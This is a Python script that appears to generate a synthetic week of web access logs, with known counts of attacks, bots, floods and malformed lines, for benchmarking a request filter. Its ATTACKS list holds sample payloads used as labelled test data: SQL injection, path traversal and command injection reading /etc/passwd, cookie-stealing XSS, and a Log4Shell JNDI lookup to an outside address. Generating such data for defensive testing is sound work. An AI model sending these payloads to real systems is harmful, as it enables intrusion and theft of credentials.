"""A week of access logs with attacks, bots and floods in known numbers: what a replay has to find again.

``python -m benchmarks.week week.log.gz --lines 1000000`` writes a combined log and prints what is in it as JSON;
``--peers FOLDER`` writes the requests of a benchmark of peers (its ``common.py`` and ``corpus.py``) as JSON lines
instead. The same seed gives the same file.
"""

from __future__ import annotations

import argparse
import gzip
import json
import random
import sys
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any, NamedTuple
from urllib.parse import quote_plus

from benchmarks.traffic import address, agent

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

BEGIN = 1_793_577_600
"""Monday, 2026-11-02, 00:00 UTC."""
HOURS = 7 * 24
BURST, LIMIT = 150, 100
"""Requests that a flood sends within half a minute, and those of them that ``week.toml`` admits a minute."""

PAGES = [
    "/",
    "/items?page=2",
    "/items/1042",
    "/basket",
    "/about",
    "/search?q=red+shoes",
    "/static/app.css",
    "/blog/o'brien",
]
BOTS = [
    "curl/8.5.0",
    "python-requests/2.32.3",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Scrapy/2.11.2 (+https://scrapy.org)",
]
ATTACKS = [
    "/items?id=1+UNION+SELECT+username,password+FROM+users--",
    "/items?id=1'+OR+'1'='1",
    "/download?file=../../../../etc/passwd",
    "/search?q=<script>alert(document.cookie)</script>",
    "/lookup?host=127.0.0.1;cat+/etc/passwd",
    "/api?x=${jndi:ldap://203.0.113.66/a}",
]
GARBAGE = [
    r'203.0.113.4 - - [{time}] "\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03" 400 157 "-" "-"',
    '203.0.113.5 - - [{time}] "GET /cut',
    "\x1b[2J\x1b[31mnot a log line\x07",
    '203.0.113.6 - - [99/Foo/9999:99:99:99 +9999] "GET / HTTP/1.1" 200 1 "-" "-"',
    "",
]


class Line(NamedTuple):
    """One line of the log, and when it is written."""

    at: float
    text: str


class Truth(NamedTuple):
    """How many lines there are of each kind, by what a replay is to call them."""

    lines: int
    attacks: int
    bots: int
    probes: int
    floods: int
    garbage: int

    @classmethod
    def of(cls, lines: int) -> Truth:
        """The kinds in fixed parts: 1 % attacks, 4 % bots, 0.2 % probes, 1.5 % floods, 0.05 % garbage."""
        floods = lines // 10_000
        return cls(lines, lines // 100, lines // 25, lines // 500, floods, lines // 2_000)

    def to_dict(self) -> dict[str, Any]:
        """What the report of a replay with ``week.toml`` has to say."""
        over = self.floods * (BURST - LIMIT)
        requests = self.lines - self.garbage
        denied = {"attacks": self.attacks, "bots": self.bots, "rate": over}
        total = sum(denied.values())
        return {
            "requests": requests,
            "allowed": requests - total,
            "denied": total,
            "by_rule": denied,
            "would_deny": self.probes,
            "skipped": self.garbage,
        }


def week(lines: int, seed: int) -> Iterator[str]:
    """The log, hour by hour."""
    source, truth = random.Random(seed), Truth.of(lines)
    visitors = lines - truth.attacks - truth.bots - truth.probes - truth.floods * BURST - truth.garbage
    amounts = [_part(count, hour) for hour in range(HOURS) for count in (*truth[1:], visitors)]
    for hour in range(HOURS):
        attacks, bots, probes, floods, garbage, others = amounts[6 * hour : 6 * hour + 6]
        kinds = [
            *_each(source, hour, attacks, lambda n: _request(source, address(0x10000 + n), source.choice(ATTACKS))),
            *_each(source, hour, bots, lambda n: _request(source, address(0x20000 + n), "/", source.choice(BOTS))),
            *_each(source, hour, probes, lambda n: _request(source, address(0x30000 + n), "/trackback")),
            *_each(source, hour, garbage, lambda _: source.choice(GARBAGE[:-1])),
            *_each(source, hour, others, lambda _: _visit(source)),
            *[line for number in range(floods) for line in _flood(source, hour, number)],
        ]
        for line in sorted(kinds):
            yield line.text.replace("{time}", _stamp(line.at))


def _part(count: int, hour: int) -> int:
    """What of ``count`` falls into an hour, so that the hours sum up to it."""
    return count * (hour + 1) // HOURS - count * hour // HOURS


def _each(source: random.Random, hour: int, count: int, make: Any) -> Iterable[Line]:
    begin = BEGIN + hour * 3600
    return [Line(begin + source.random() * 3600, make(source.randrange(0xFFFF))) for _ in range(count)]


def _flood(source: random.Random, hour: int, number: int) -> Iterator[Line]:
    begin = BEGIN + hour * 3600 + source.random() * 3000
    client = address(0x50000 + hour * 64 + number)
    return (Line(begin + 30 * sent / BURST, _request(source, client, "/items?page=2")) for sent in range(BURST))


def _visit(source: random.Random) -> str:
    return _request(source, address(0x100000 + source.randrange(0x8000)), source.choice(PAGES))


def _request(source: random.Random, client: str, target: str, name: str = "") -> str:
    escaped = target.replace('"', "\\x22")
    named = name or agent(source.randrange(200))
    return f'{client} - - [{{time}}] "GET {escaped} HTTP/1.1" 200 {source.randrange(200, 9000)} "-" "{named}"'


def _stamp(at: float) -> str:
    return time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(at))


def peers(folder: Path) -> Iterator[str]:
    """The requests of a benchmark of peers: browsers' GETs and POSTs of 1,000 clients, attacks, and look-alikes."""
    sys.path.insert(0, str(folder))
    import common  # the benchmark's own modules, which are not part of doorward
    import corpus

    at = BEGIN - 3600.0
    for number in range(1000):
        yield _json(at, common.client_ip(number), "GET", "/items", "q=red+shoes&page=2", common.HEADERS)
        yield _json(at, common.client_ip(number), "POST", "/items", "", _typed(common.HEADERS), common.BODY.decode())
        at += 1
    texts = [text for _, text in corpus.ATTACKS], list(corpus.BENIGN)
    for number, text in enumerate([*texts[0], *texts[1]]):
        kind = "attack" if number < len(texts[0]) else "benign"
        yield _json(at + number, f"11.9.0.{number}", "GET", f"/{kind}", f"q={quote_plus(text)}", common.HEADERS)


def _typed(headers: Iterable[tuple[str, str]]) -> list[tuple[str, str]]:
    return [*headers, ("content-type", "application/json")]


def _json(at: float, client: str, method: str, path: str, query: str, headers: Any, body: str | None = None) -> str:
    recorded = {
        "time": at,
        "ip": client,
        "method": method,
        "path": path,
        "query": query,
        "headers": headers,
        "status": 200,
    }
    return json.dumps({**recorded, **({} if body is None else {"body": body})})


def main() -> None:
    parser = argparse.ArgumentParser(description="Write a recording in which everything is known.")
    parser.add_argument("file", type=Path)
    parser.add_argument("--lines", type=int, default=1_000_000)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--peers", type=Path, help="write the requests of this benchmark instead")
    arguments = parser.parse_args()
    lines = peers(arguments.peers) if arguments.peers else week(arguments.lines, arguments.seed)
    with (gzip.open if arguments.file.suffix == ".gz" else open)(arguments.file, "wt", encoding="utf-8") as log:
        log.writelines(f"{line}\n" for line in lines)
    if not arguments.peers:
        print(json.dumps(Truth.of(arguments.lines).to_dict(), indent=1))


if __name__ == "__main__":
    main()
